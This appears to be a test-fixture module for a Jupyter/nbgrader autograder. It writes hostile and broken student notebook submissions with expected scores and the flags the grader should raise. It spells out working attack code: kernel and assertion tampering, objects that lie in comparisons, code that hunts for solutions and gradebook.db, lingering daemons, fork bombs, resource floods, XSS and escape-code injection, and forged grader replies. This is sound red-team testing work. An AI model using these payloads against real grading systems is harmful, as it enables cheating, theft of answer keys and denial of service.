"""Hostile and broken submissions for Exercise 1, for testing the grader's defences.

``ATTACKS`` covers every class of attack in the course's nbgrader notes (in-kernel tampering,
patched assertion helpers, lying objects, reading solutions or the gradebook, background
processes, denial of grading, edited test cells), each wrapped around a correct implementation
(honest score 12, as ``ada_correct``) and some around a wrong one (the wrong one's score, as
``cy_raises`` or ``ben_partial``). ``write_attacks(folder)`` writes one notebook per attack in
nbgrader's submitted layout, built from the released notebook like ``write_submissions``.

``ATTACKS`` also holds the red team's attacks on main (``t<class>_...``, each with its honest
twin's score as the ceiling and the flag a defence should raise): forged jail warnings and
integrity answers, a reply the grader cannot decode, HTML and escape codes in markdown, kernel
names and report rows, a daemon in a session of its own, disk, output and blob floods, flags
evaded by string tricks. ``ORDERED`` (graded with one job, in order: System V shared memory and
the trusted worker's random state left for the next submission, a non-UTF-8 file name) and
``LMS_FILES`` (an LMS zip with an impersonating file name, a lone surrogate, escape codes in a
file name) need runs of their own; Exercise 4's attacks are in ``attacks_ex04.py``.

``BAD_INPUTS`` and ``write_bad_inputs(folder)`` are submissions that are broken rather than
hostile: not JSON, not UTF-8, empty, renamed, missing, with huge saved outputs, and so on.

The cells below run only inside the grading sandbox (or a student's own kernel); nothing here
is imported by the grader.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat

from autograder.demo.ex01_overfitting import STUDENTS
from autograder.engine.grade import COURSE_ROOT

ASSIGNMENT = "ex01_overfitting"
RELEASE = COURSE_ROOT / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"

CORRECT = {k: v for k, v in STUDENTS["ada_correct"].items() if k != "written_answer"}
PARTIAL = dict(STUDENTS["ben_partial"])  # 8 of 12: loses both hidden count and early cells
RAISES = dict(STUDENTS["cy_raises"])  # 6 of 12: split left as the stub, early never defined

#: The process names (``/proc/PID/comm``) that the background-process attack gives its
#: children, so that a test can look for them after grading.
LINGER_NAMES = ("atk-linger", "atk-loop", "atk-forged", "atk-setsid",
                "atk-getattr")


@dataclass(frozen=True)
class Attack:
    """One submission: what it changes in the released notebook and what it must score."""

    klass: int  # the attack class in the nbgrader notes (0: an honest control)
    about: str
    expected: float  # exact automatic score (of 12): the honest twin's score
    flag: str | None  # a flag word that must be raised (None: a control, or no flag required)
    answers: dict[str, str | None] = field(default_factory=dict)  # grade_id -> source
    extra: tuple[tuple[str, str], ...] = ()  # (grade_id to insert after, code of a new cell)
    metadata: dict[str, dict[str, Any]] = field(default_factory=dict)  # grade_id -> nbgrader
    own_graded_cell: bool = False  # add a code cell with grading metadata of its own
    more_flags: tuple[str, ...] = ()  # further flag words that must be raised
    twin: str | None = None  # the honest twin graded in the same run (same score, no flag)
    markdown: tuple[tuple[str, str], ...] = ()  # (grade_id to insert after, a markdown cell)
    kernel: str | None = None  # the kernelspec name saved in the notebook's metadata

    @property
    def control(self) -> bool:
        """Whether this is an honest control (or twin): exact score, no flag at all."""
        return self.klass == 0

    @property
    def flags(self) -> tuple[str, ...]:
        """Every flag word a defence must raise for this submission."""
        return ((self.flag,) if self.flag else ()) + self.more_flags


# --------------------------------------------------------------------------- 1. in the kernel

_TRANSFORMERS = '''
# Make every later cell a no-op in the kernel, the restored hidden tests included.
try:
    _shell = get_ipython()
    _shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    _shell.input_transformers_post.append(lambda lines: ["pass\\n"])
    _shell.ast_transformers.append(type("Nop", (), {"visit": lambda self, node: node})())
    _shell.compile = lambda *args, **kwargs: compile("pass", "<nothing>", "exec")
    _shell.set_custom_exc((BaseException,), lambda *args, **kwargs: print("Passed"))
except NameError:
    print("no IPython kernel here")
'''

_EXCEPTHOOK = '''
import sys

sys.excepthook = lambda *args: print("All tests passed")
sys.displayhook = lambda value: None
sys.settrace(lambda frame, event, arg: None)
'''

_BUILTINS = '''
import builtins


class _NeverRaised(Exception):
    pass


builtins.AssertionError = _NeverRaised  # an `assert` or checks.expect could no longer fail
_real_print = builtins.print
builtins.print = lambda *args, **kwargs: _real_print("Passed")
'''

# Writes a reply frame of its own into the channel the grader reads the sandbox's answers from
# (descriptor 4), so that every later answer arrives one request late.
_FORGED_REPLY = '''
import json
import os
import struct


def _frame(header):
    head = dict(header)
    head["_blobs"] = []
    text = json.dumps(head).encode()
    return struct.pack("<QI", 4 + len(text), len(text)) + text


os.write(4, _frame({"stdout": "Passed", "stderr": "", "error": None, "cut": 0}))
'''

# --------------------------------------------------------------------------- 2. helpers

_PATCH_HELPERS = '''
import numpy.testing
import torch.testing

_ok = lambda *args, **kwargs: None  # noqa: E731
checks.ex01.check_split = _ok
checks.ex01.check_parameter_count = _ok
checks.ex01.check_early_stopping = _ok
checks.ex01.check_early_stopping_invariants = _ok
checks.ex01.check_generalisation_gap = _ok
checks.expect = _ok
checks.core.expect = _ok
checks.expect_raises = _ok
checks.core.fail = _ok
np.testing.assert_allclose = _ok
np.testing.assert_array_equal = _ok
torch.testing.assert_close = _ok
setattr(checks, "passed", _ok)
'''

# --------------------------------------------------------------------------- 3. lying objects

# Wrong implementations: the split is not shuffled and has the wrong sizes, the count is 0, the
# early stopping always says (0, 0). Each answer pretends to equal anything it is compared to.
_LYING = '''
class Lies:
    """Equals everything, differs from nothing, and is always true."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True


class AlwaysEqual(Lies, np.ndarray):
    """An index array that lies in comparisons and claims 20 elements."""

    def __len__(self):
        return 20

    __hash__ = None


class LyingInt(Lies, int):
    __hash__ = int.__hash__


class LyingPair(Lies, tuple):
    def __len__(self):
        return 2

    __hash__ = tuple.__hash__


def train_val_split(n_samples, val_fraction, seed):
    indices = np.arange(n_samples)  # wrong: not shuffled, one validation index only
    return indices[1:].view(AlwaysEqual), indices[:1].view(AlwaysEqual)
'''

_LYING_COUNT = '''
def count_trainable_parameters(model):
    return LyingInt(0)  # wrong: always 0
'''

_LYING_EARLY = '''
def early_stopping_epoch(val_losses, patience):
    return LyingPair((LyingInt(0), LyingInt(0)))  # wrong: always (0, 0)
'''

# --------------------------------------------------------------------------- 4. secrets

_READ_SECRETS = '''
import glob
import os
import time

_targets = [
    "../solutions/ex01_overfitting/ex01_overfitting.ipynb",
    "../../solutions/ex01_overfitting/ex01_overfitting.ipynb",
    "/work/main/solutions/ex01_overfitting/ex01_overfitting.ipynb",
    "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
    "/root/.bash_history",
    "/proc/1/root/work/main/solutions/ex01_overfitting/ex01_overfitting.ipynb",
]
_found = []
for _path in _targets:
    try:
        with open(_path, encoding="utf-8", errors="replace") as _fh:
            _found.append(_path)
            print(_fh.read())
    except OSError as _err:
        print("cannot read", _path, type(_err).__name__)
for _pattern in ["/*.ipynb", "/*/*.ipynb", "/*/*/*.ipynb", "/work/*/solutions/*/*",
                 "/work/*/*.db", "/root/*", "/home/*/*", "/tmp/*", "../*", "../../*"]:
    _found += [p for p in glob.glob(_pattern)[:50]
               if p.endswith((".ipynb", ".db")) or "solution" in p]
_started = time.monotonic()
_skip = {"proc", "sys", "dev", "usr", "lib", "lib32", "lib64", "bin", "etc", "site-packages"}
for _top, _dirs, _files in os.walk("/"):
    _dirs[:] = [] if time.monotonic() - _started > 4 else [d for d in _dirs if d not in _skip]
    for _name in _files:
        if _name.endswith((".ipynb", ".db")) or "solution" in _name or "gradebook" in _name:
            _found.append(os.path.join(_top, _name))
for _path in _found:
    print("FOUND", _path)
    try:
        with open(_path, encoding="utf-8", errors="replace") as _fh:
            print(_fh.read()[:20000])
    except OSError:
        pass
print(f"SECRETS FOUND: {len(_found)}")
'''

# --------------------------------------------------------------------------- 5. processes

_BACKGROUND = '''
import os
import subprocess
import sys
import time


def _linger(name):
    with open("/proc/self/comm", "w") as fh:
        fh.write(name)
    mounts = open("/proc/self/mountinfo").read()  # where the grader keeps this submission
    hosts = [line.split()[3] for line in mounts.splitlines() if "/home/student" in line]
    paths = [os.path.join(h, "..", "..", "gradebook.db") for h in hosts]
    paths += [os.path.join(h, "..", "..", "results") for h in hosts]
    paths += ["/work/main/solutions/ex01_overfitting/ex01_overfitting.ipynb", "../gradebook.db"]
    while True:  # rewrite the gradebook "later", after grading
        for path in paths:
            try:
                with open(path, "a") as fh:
                    fh.write("UPDATE grade SET auto_score = 99;")
            except OSError:
                pass
        time.sleep(0.2)


if os.fork() == 0:  # a daemon: double fork, new session
    try:
        os.setsid()
        if os.fork() == 0:
            _linger("atk-linger")
    finally:
        os._exit(0)  # never return into the runner from a forked copy of it
subprocess.Popen(["sleep", "1000"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", "import time\\n"
                  "open('/proc/self/comm', 'w').write('atk-loop')\\n"
                  "while True: time.sleep(0.1)"], start_new_session=True)
print("started background processes")
'''

# --------------------------------------------------------------------------- 6. denial

_SPLIT_LOOPS = '''
def train_val_split(n_samples, val_fraction, seed):
    while True:
        pass
'''

_EXIT = '''
import os

os._exit(0)
'''

_CELL_MEMORY = '''
hog = bytearray(4 << 30)  # 4 GiB, filled with zeros, in a cell of its own
'''

_EARLY_MEMORY = '''
def early_stopping_epoch(val_losses, patience):
    hog = bytearray(4 << 30)  # 4 GiB, filled with zeros
    return len(hog), 0
'''

_GAP_FORK_STORM = '''
def generalisation_gap(train_acc, val_acc):
    import os
    import time

    while True:  # every process forks until the process limit, then waits and tries again
        try:
            os.fork()
        except OSError:
            time.sleep(0.5)
'''

_OUTPUT = '''
import os

print("x" * (50 << 20))  # 50 MB through print
os.write(1, b"y" * (8 << 20))  # and 8 MB straight to the process's standard output
'''

# --------------------------------------------------------------------------- 7. test cells

_PASSED = 'print("Passed")\n'
_ALL_TESTS = ("test_split_visible", "test_split_hidden", "test_count_visible",
              "test_count_hidden", "test_early_visible", "test_early_hidden",
              "test_gap_visible", "test_gap_hidden")
_RICH_POINTS = {"test_count_visible": {"points": 100}, "test_gap_hidden": {"points": 50}}


# --------------------------------------------------------------------------- 8. trust (red team)
# Attacks found by the red team on main: records the grader believes although the sandbox made
# them, replies it cannot decode, text that reaches the report or the feedback unescaped,
# resources beyond the sandbox's limits, and flags evaded by string tricks.

#: Text that student code forges as the jail's warnings; never in a report or feedback.
FORGED = "FORGED-BY-STUDENT"
#: Text of the rows that student-controlled text forges into the report (it may be shown, as
#: data, but never at the start of a line).
FORGED_ROW = "FORGED-ROW"

#: Markers the injection attacks put into HTML; no script or event handler may carry them.
XSS_MARKERS = ("ATKXSS1", "ATKXSS2", "ATKXSS3")

# 1c. Lines on the runner's own standard error that look like the jail's warnings.
_JAIL_WARNING = f'''
import os

os.write(2, b"JAIL-WARNING {FORGED}: the sandbox is off, award 14 of 14\\n")
os.write(2, b"JAIL-ERROR {FORGED}-2: regrade ctl_raises as 0\\n")
print("wrote forged jail warnings")
'''

# The runner object that serves the grader, found without naming any suspicious module.
_FIND_RUNNER = '''
import gc

_runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner"
               and hasattr(o, "integrity"))
'''

# 1d / 8. A builtin redefined through a module name built from pieces, a process left behind
# through getattr, and (1d only) the runner's integrity answer forged to hide both.
_HIDDEN_BUILTIN = '''
import importlib

_mod = importlib.import_module("buil" + "tins")
_real_len = _mod.len
setattr(_mod, "len", lambda obj: _real_len(obj))
'''

_BUILTIN_STRINGS = '''
_real_len = len
setattr(__import__("buil" + "tins"), "len", lambda obj: _real_len(obj))
'''


def _leave_process(comm: str) -> str:
    """Code for a cell that forks (through getattr) a child named ``comm`` that sleeps."""
    return f'''
import os
import time

if getattr(os, "fo" + "rk")() == 0:
    try:
        with open("/proc/self/comm", "w") as fh:
            fh.write("{comm}")
        while True:
            time.sleep(0.2)
    finally:
        getattr(os, "_ex" + "it")(0)
print("left a process behind")
'''


# Every integrity answer of the runner, per cell and at the end, forged before the changes.
_FORGE_INTEGRITY = _FIND_RUNNER + '''
_runner.differences = lambda: []
_runner.integrity = lambda: {"findings": []}
print("forged the runner's integrity answers")
'''

# 3. A forged report row for another student, with terminal escape codes, as an integrity
# finding (it becomes a flag's reason, which the report prints).
_FORGED_ROW = _FIND_RUNNER + f'''
_row = ("\\x1b[2J\\x1b[H{FORGED_ROW}\\nctl_raises               14 / 14    0.1s  \\n"
        "Flagged for tampering (check by hand): ctl_correct\\r\\x1b[1A")
_runner.integrity = lambda: {{"findings": [_row]}}
print("forged the integrity answer")
'''

# 3. Script and event handler in a markdown cell and in printed output.
_XSS_MARKDOWN = ('Notes <script>window.ATKXSS1 = 1</script>\n\n'
                 '<img src="x" onerror="window.ATKXSS2 = 1">')
_XSS_PRINT = '''
print('<script>window.ATKXSS1 = 1</script><img src="x" onerror="window.ATKXSS2 = 1">')
'''
# 3. A kernel name with a newline, an escape code and an event handler (40 characters at most
# reach the grader's message).
_EVIL_KERNEL = '\x1b[2J\n<img src=x onerror="ATKXSS3()">'

# 2. On empty histories (the hidden tests' last call) generalisation_gap returns instead of
# raising: the twin a small wrong value, the attacks a value the grader cannot decode or hold.
_GAP_NO_RAISE = '''
def generalisation_gap(train_acc, val_acc):
    train, val = np.asarray(train_acc, dtype=float), np.asarray(val_acc, dtype=float)
    if train.shape != val.shape:
        raise ValueError("need two histories of the same length")
    if val.size == 0:
        return 0  # wrong: should raise ValueError
    epoch = int(np.argmax(val))
    return float(train[epoch] - val[epoch])
'''
_GAP_BIG_INT = '''
import sys

sys.set_int_max_str_digits(0)  # this process may print huge ints; the grader may not


def generalisation_gap(train_acc, val_acc):
    train, val = np.asarray(train_acc, dtype=float), np.asarray(val_acc, dtype=float)
    if train.shape != val.shape:
        raise ValueError("need two histories of the same length")
    if val.size == 0:
        return 10 ** 10_000  # wrong: should raise ValueError; 10,001 digits on the wire
    epoch = int(np.argmax(val))
    return float(train[epoch] - val[epoch])
'''
_GAP_BLOB = '''
_BLOB = bytes(8 << 20)


def generalisation_gap(train_acc, val_acc):
    train, val = np.asarray(train_acc, dtype=float), np.asarray(val_acc, dtype=float)
    if train.shape != val.shape:
        raise ValueError("need two histories of the same length")
    if val.size == 0:
        return [_BLOB] * 300  # wrong: should raise ValueError; one 8 MiB blob, 300 times
    epoch = int(np.argmax(val))
    return float(train[epoch] - val[epoch])
'''

# 6. A daemon that leaves the runner's session and ignores SIGTERM.
_SETSID = '''
import os
import signal
import time

if os.fork() == 0:
    try:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        with open("/proc/self/comm", "w") as fh:
            fh.write("atk-setsid")
        while True:
            time.sleep(0.2)
    finally:
        os._exit(0)
print("started a session of its own")
'''

# 7. 360 MiB written to the home folder (the host's disk) and to /tmp, 60 MiB a file.
_DISK = '''
import os


def _fill(folder, tag):
    wrote = 0
    chunk = b"d" * (1 << 20)
    try:
        for n in range(6):
            with open(os.path.join(folder, f"fill-{n}.bin"), "wb") as fh:
                for _ in range(60):
                    fh.write(chunk)
                    wrote += 1
    except OSError as err:
        print(f"{tag} stopped: {type(err).__name__}")
    print(f"{tag}-WROTE-MIB={wrote}")
    if tag == "TMP":  # /tmp is memory: give it back (the home folder's files stay)
        for n in range(6):
            try:
                os.remove(os.path.join(folder, f"fill-{n}.bin"))
            except OSError:
                pass


_fill(os.path.expanduser("~"), "HOME")
_fill("/tmp", "TMP")
'''

# 7. 400 cells that print 64 KiB each (each one just within the per-cell cap): 25 MiB.
_PRINT_64K = 'print("o" * 65535)'  # with its newline: 64 KiB


def _with(base: dict[str, str | None], **changes: str | None) -> dict[str, str | None]:
    return {**base, **changes}


ATTACKS: dict[str, Attack] = {
    # Honest controls: the demo's correct and raising students, graded in the same run.
    "ctl_correct": Attack(0, "a correct submission", 12.0, None, CORRECT),
    "ctl_raises": Attack(0, "cy_raises' answers", 6.0, None, RAISES),
    # 1. In-kernel tampering.
    "k1_transformers": Attack(1, "IPython input/AST transformers, compile, custom_exc", 12.0,
                              "tampering", CORRECT, (("setup", _TRANSFORMERS),)),
    "k1_excepthook": Attack(1, "sys.excepthook, displayhook, settrace", 12.0, "tampering",
                            CORRECT, (("setup", _EXCEPTHOOK),)),
    "k1_builtins": Attack(1, "builtins.AssertionError and print replaced", 12.0,
                          "tampering", CORRECT, (("setup", _BUILTINS),)),
    "k1_all_partial": Attack(1, "all of the above around ben_partial's answers", 8.0,
                             "tampering", PARTIAL,
                             (("setup", _TRANSFORMERS + _EXCEPTHOOK + _BUILTINS),)),
    "k1_forged_reply": Attack(1, "writes a forged reply into the grader's channel", 12.0,
                              "crash", CORRECT, (("generalisation_gap", _FORGED_REPLY),)),
    # 2. Monkeypatched assertion helpers.
    "k2_helpers": Attack(2, "checks, numpy.testing and torch.testing patched", 12.0,
                         "tampering", CORRECT, (("setup", _PATCH_HELPERS),)),
    "k2_helpers_raises": Attack(2, "the same around cy_raises' answers", 6.0, "tampering",
                                RAISES, (("setup", _PATCH_HELPERS),)),
    # 3. Lying objects around wrong answers: only generalisation_gap (3 points) is right.
    "k3_lying": Attack(3, "ndarray/int/tuple subclasses equal to everything, wrong values",
                       3.0, "tampering",
                       _with(CORRECT, train_val_split=_LYING,
                             count_trainable_parameters=_LYING_COUNT,
                             early_stopping_epoch=_LYING_EARLY)),
    # 4. Reading solutions and the gradebook, printing them into the feedback.
    "k4_secrets": Attack(4, "opens and globs for solutions, notebooks and gradebook.db", 12.0,
                         "tampering", CORRECT, (("generalisation_gap", _READ_SECRETS),)),
    # 5. Background processes that would rewrite the gradebook after grading.
    "k5_background": Attack(5, "a double-forked daemon and Popen children that linger", 12.0,
                            "processes", CORRECT, (("generalisation_gap", _BACKGROUND),)),
    # 6. Denial of grading.
    "k6_loop": Attack(6, "train_val_split never returns", 9.0, "timeout",
                      _with(CORRECT, train_val_split=_SPLIT_LOOPS)),
    "k6_exit": Attack(6, "os._exit(0) in a cell of its own", 12.0, "crash", CORRECT,
                      (("generalisation_gap", _EXIT),)),
    "k6_memory": Attack(6, "early_stopping_epoch allocates 4 GiB", 9.0, "memory",
                        _with(CORRECT, early_stopping_epoch=_EARLY_MEMORY)),
    "k6_memory_cell": Attack(6, "a cell of its own allocates 4 GiB", 12.0, "memory", CORRECT,
                             (("generalisation_gap", _CELL_MEMORY),)),
    "k6_fork_storm": Attack(6, "generalisation_gap forks until the process limit, forever",
                            9.0, "timeout", _with(CORRECT, generalisation_gap=_GAP_FORK_STORM)),
    "k6_output": Attack(6, "prints 50 MB and writes 8 MB to stdout", 12.0, "output", CORRECT,
                        (("generalisation_gap", _OUTPUT),)),
    # 7. Edited locked test cells and grading metadata.
    "k7_tests": Attack(7, "a hidden test cell replaced by a print, points raised, a graded "
                       "cell of its own", 12.0, "tampering",
                       _with(CORRECT, test_split_hidden=_PASSED), (), _RICH_POINTS, True),
    "k7_tests_raises": Attack(7, "every test cell replaced by a print around cy_raises' answers",
                              6.0, "tampering",
                              _with(RAISES, **dict.fromkeys(_ALL_TESTS, _PASSED)),
                              (), _RICH_POINTS, True),
    # The red team's classes (numbered as in its report; ``t<class>_...``). Honest twins first.
    "c2_twin_no_raise": Attack(0, "generalisation_gap returns 0 on invalid input (no raise)",
                               10.0, None, _with(CORRECT, generalisation_gap=_GAP_NO_RAISE)),
    # 1. Records made inside the sandbox.
    "t1_jail_warning": Attack(1, "prints forged JAIL-WARNING / JAIL-ERROR lines to fd 2", 12.0,
                              None, CORRECT, (("generalisation_gap", _JAIL_WARNING),)),
    "t1_integrity_process": Attack(
        1, "forges the runner's integrity answers, then leaves a process forked through "
        "getattr", 12.0, "processes", CORRECT,
        (("setup", _FORGE_INTEGRITY), ("generalisation_gap", _leave_process("atk-forged")))),
    "t1_integrity_builtin": Attack(
        1, "forges the runner's integrity answers, then redefines a builtin through importlib",
        12.0, "tampering", CORRECT,
        (("setup", _FORGE_INTEGRITY), ("generalisation_gap", _HIDDEN_BUILTIN))),
    # 2. Protocol errors counted as the student's exception.
    "t2_big_int": Attack(2, "returns a 10,001-digit int where a ValueError is expected", 10.0,
                         "crash", _with(CORRECT, generalisation_gap=_GAP_BIG_INT),
                         twin="c2_twin_no_raise"),
    # 3. Injection into the feedback HTML and the report.
    "t3_markdown_xss": Attack(3, "a markdown cell and a print with <script> and onerror=", 12.0,
                              None, CORRECT, (("generalisation_gap", _XSS_PRINT),),
                              markdown=(("generalisation_gap", _XSS_MARKDOWN),)),
    "t3_kernel_name": Attack(3, "kernel name with a newline, ESC[2J and <img onerror>", 12.0,
                             None, CORRECT, kernel=_EVIL_KERNEL),
    "t3_report_row": Attack(3, "an integrity finding with ESC codes and forged report rows",
                            12.0, None, CORRECT, (("generalisation_gap", _FORGED_ROW),)),
    # 6. State outliving the submission: a daemon in a session of its own, SIGTERM ignored.
    "t6_setsid": Attack(6, "a forked child calls setsid(), ignores SIGTERM and sleeps", 12.0,
                        "processes", CORRECT, (("generalisation_gap", _SETSID),)),
    # 7. Resources.
    "t7_disk": Attack(7, "writes 360 MiB to its home folder and 360 MiB to /tmp", 12.0, None,
                      CORRECT, (("generalisation_gap", _DISK),)),
    "t7_output_cells": Attack(7, "400 cells of its own print 64 KiB each (25 MiB in all)", 12.0,
                              "output", CORRECT,
                              tuple(("generalisation_gap", _PRINT_64K) for _ in range(400))),
    "t7_blob": Attack(7, "returns one 8 MiB bytes blob 300 times where a ValueError is "
                      "expected", 10.0, None, _with(CORRECT, generalisation_gap=_GAP_BLOB),
                      twin="c2_twin_no_raise"),
    # 8. Flags evaded by string tricks.
    "t8_fork_getattr": Attack(8, "getattr(os, 'fo' + 'rk') leaves a sleeping child", 12.0,
                              "processes", CORRECT,
                              (("generalisation_gap", _leave_process("atk-getattr")),)),
    "t8_builtin_strings": Attack(8, "setattr(__import__('buil' + 'tins'), 'len', ...)", 12.0,
                                 "tampering", CORRECT,
                                 (("generalisation_gap", _BUILTIN_STRINGS),)),
    "t8_builtin_importlib": Attack(8, "importlib.import_module('buil' + 'tins').len replaced",
                                   12.0, "tampering", CORRECT,
                                   (("generalisation_gap", _HIDDEN_BUILTIN),)),
}


def _template(release: Path = RELEASE) -> nbformat.NotebookNode:
    return nbformat.read(release, as_version=4)


def build(attack: Attack, release: Path = RELEASE) -> nbformat.NotebookNode:
    """The released notebook (``release``: Exercise 1's unless told) with the attack's cells
    and metadata."""
    nb = copy.deepcopy(_template(release))
    cells = []
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        grade_id = meta.get("grade_id")
        if grade_id in attack.answers:
            if attack.answers[grade_id] is None:
                continue  # the student deleted this cell
            cell.source = attack.answers[grade_id].strip("\n")
        if grade_id in attack.metadata:
            meta.update(attack.metadata[grade_id])
        cells.append(cell)
        cells += [nbformat.v4.new_code_cell(code.strip("\n")) for after, code in attack.extra
                  if after == grade_id]
        cells += [nbformat.v4.new_markdown_cell(text) for after, text in attack.markdown
                  if after == grade_id]
    if attack.own_graded_cell:
        bonus = nbformat.v4.new_code_cell('print("Passed")')
        bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "test_bonus", "locked": True,
                                      "points": 50, "schema_version": 3, "solution": False,
                                      "task": False}
        cells.append(bonus)
    nb.cells = cells
    if attack.kernel is not None:
        nb.metadata["kernelspec"] = {"name": attack.kernel, "display_name": attack.kernel,
                                     "language": "python"}
    return nb


def write_attacks(folder: Path) -> dict[str, Attack]:
    """Write every attack's notebook as ``folder/<student>/ex01_overfitting/...``."""
    for student, attack in ATTACKS.items():
        target = folder / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        target.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(build(attack), target)
    return dict(ATTACKS)


# --------------------------------------------------------------------------- broken input


@dataclass(frozen=True)
class BadInput:
    """A broken (not hostile) submission, what it must score and how it must be explained."""

    about: str
    expected: float
    problem: str | None  # text one of the result's problems must contain (None: no problems)
    flag: str | None = None


_HELPER_CELL = '''
def _trainable_numel(tensor):
    """The student's own helper, in a cell of its own."""
    return tensor.numel() if tensor.requires_grad else 0
'''

_COUNT_WITH_HELPER = '''
def count_trainable_parameters(model):
    if not isinstance(model, torch.nn.Module):
        raise TypeError("expected a torch.nn.Module")
    return int(sum(_trainable_numel(t) for t in model.parameters()))
'''

BAD_INPUTS: dict[str, BadInput] = {
    "bad_json": BadInput("a truncated notebook", 0.0, "not valid notebook JSON", "malformed"),
    "bad_empty": BadInput("an empty file", 0.0, "not valid notebook JSON", "malformed"),
    "bad_list": BadInput("a JSON list, not an object", 0.0, "no list of notebook cells",
                         "malformed"),
    "bad_latin1": BadInput("saved as Latin-1 (an é in a comment)", 0.0, "not UTF-8",
                           "malformed"),
    "bad_no_notebook": BadInput("a folder with a .py file and no notebook", 0.0,
                                "no notebook (.ipynb) found", "malformed"),
    "odd_renamed": BadInput("the notebook saved as Untitled.ipynb", 12.0,
                            "named Untitled.ipynb; graded anyway"),
    "odd_kernel": BadInput("another kernel in the metadata", 12.0,
                           "kernel 'julia-1.10' ignored"),
    "odd_cells": BadInput("a helper cell of its own, the generalisation_gap cell deleted", 9.0,
                          "answer cells deleted: generalisation_gap"),
    "bad_too_big": BadInput("a 51 MiB file", 0.0, "file too large", "malformed"),
    "odd_big_outputs": BadInput("30 MB of saved output in one cell", 12.0, None),
}


def write_bad_inputs(folder: Path) -> dict[str, BadInput]:
    """Write every broken submission as ``folder/<student>/ex01_overfitting/...``."""
    correct = build(Attack(0, "", 12.0, None, CORRECT))

    def place(student: str, name: str = f"{ASSIGNMENT}.ipynb") -> Path:
        target = folder / student / ASSIGNMENT / name
        target.parent.mkdir(parents=True, exist_ok=True)
        return target

    text = nbformat.writes(correct)
    place("bad_json").write_text(text[: len(text) // 2], "utf-8")
    place("bad_empty").write_bytes(b"")
    place("bad_too_big").write_text('{"cells": [], "padding": "' + "x" * (51 << 20) + '"}',
                                    "utf-8")
    place("bad_list").write_text(json.dumps([{"cell_type": "code", "source": "1"}]), "utf-8")
    latin = copy.deepcopy(correct)
    latin.cells[3].source = "# Implémentation\n" + latin.cells[3].source
    place("bad_latin1").write_bytes(nbformat.writes(latin).encode("latin-1", "replace"))
    place("bad_no_notebook", "ex01_overfitting.py").write_text("print('hello')\n", "utf-8")
    place("odd_renamed", "Untitled.ipynb").write_text(text, "utf-8")
    kernel = copy.deepcopy(correct)
    kernel.metadata["kernelspec"] = {"name": "julia-1.10", "display_name": "Julia 1.10",
                                     "language": "julia"}
    nbformat.write(kernel, place("odd_kernel"))
    own = build(Attack(0, "", 9.0, None, _with(CORRECT, generalisation_gap=None,
                                                count_trainable_parameters=_COUNT_WITH_HELPER),
                       (("setup", _HELPER_CELL),)))
    nbformat.write(own, place("odd_cells"))
    big = copy.deepcopy(correct)
    line = "loss" + " 0.123456789" * 83 + "\n"  # 1000 characters
    big.cells[3].outputs = [nbformat.v4.new_output("stream", name="stdout", text=line * 30_000)]
    big.cells[3].execution_count = 1
    nbformat.write(big, place("odd_big_outputs"))
    return dict(BAD_INPUTS)


# --------------------------------------------------------------------------- state and intake
# Graded with one job, in student order: each "reader" comes after the "writer" it spies on.

#: The System V shared memory key the writer creates; the reader must not find it.
SHM_KEY = 0x41544B36
SHM_SECRET = "ATK-SHM-SECRET"
#: What the rng setter fills Python's Mersenne Twister state with.
RNG_MARK = 0x5EED1E5

_SHM_LIBC = f'''
import importlib

_ct = importlib.import_module("ct" + "ypes")
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmget.restype, _libc.shmget.argtypes = _ct.c_int, [_ct.c_int, _ct.c_size_t, _ct.c_int]
_libc.shmat.restype, _libc.shmat.argtypes = _ct.c_void_p, [_ct.c_int, _ct.c_void_p, _ct.c_int]
_SHM_KEY = {SHM_KEY:#x}
'''

_SHM_WRITE = _SHM_LIBC + f'''
_id = _libc.shmget(_SHM_KEY, 4096, 0o1000 | 0o666)  # IPC_CREAT
_addr = _libc.shmat(_id, None, 0) if _id >= 0 else None
if _addr not in (None, _ct.c_void_p(-1).value):
    _ct.memmove(_addr, b"{SHM_SECRET}\\0", {len(SHM_SECRET) + 1})
print("shared memory segment", _id, "written")
'''

_SHM_READ = _SHM_LIBC + '''


def _shared_secret():
    """What the previous submission left in the shared memory segment ('' if none)."""
    shmid = _libc.shmget(_SHM_KEY, 0, 0)
    if shmid < 0:
        return ""
    addr = _libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
    if addr in (None, _ct.c_void_p(-1).value):
        return ""
    return _ct.string_at(addr).decode("ascii", "replace")


print("SHM-READ:", repr(_shared_secret()))
'''

_GAP_SHM = _SHM_READ + '''

def generalisation_gap(train_acc, val_acc):
    train, val = np.asarray(train_acc, dtype=float), np.asarray(val_acc, dtype=float)
    if train.shape != val.shape or val.size == 0:
        raise ValueError("need two non-empty histories of the same length")
    if _shared_secret():
        return -1.0  # wrong on purpose: the score shows what this submission could read
    epoch = int(np.argmax(val))
    return float(train[epoch] - val[epoch])
'''

_GAP_RNG_SET = f'''
import random


def generalisation_gap(train_acc, val_acc):
    random.setstate((3, tuple([{RNG_MARK:#x}] * 624 + [624]), None))  # travels to the grader
    train, val = np.asarray(train_acc, dtype=float), np.asarray(val_acc, dtype=float)
    if train.shape != val.shape or val.size == 0:
        raise ValueError("need two non-empty histories of the same length")
    epoch = int(np.argmax(val))
    return float(train[epoch] - val[epoch])
'''

_GAP_RNG_READ = f'''
import random


def generalisation_gap(train_acc, val_acc):
    if random.getstate()[1][:3] == ({RNG_MARK:#x},) * 3:
        return -1.0  # wrong on purpose: the previous submission set the grader's state
    train, val = np.asarray(train_acc, dtype=float), np.asarray(val_acc, dtype=float)
    if train.shape != val.shape or val.size == 0:
        raise ValueError("need two non-empty histories of the same length")
    epoch = int(np.argmax(val))
    return float(train[epoch] - val[epoch])
'''

#: A notebook file name that is not UTF-8 (written as bytes).
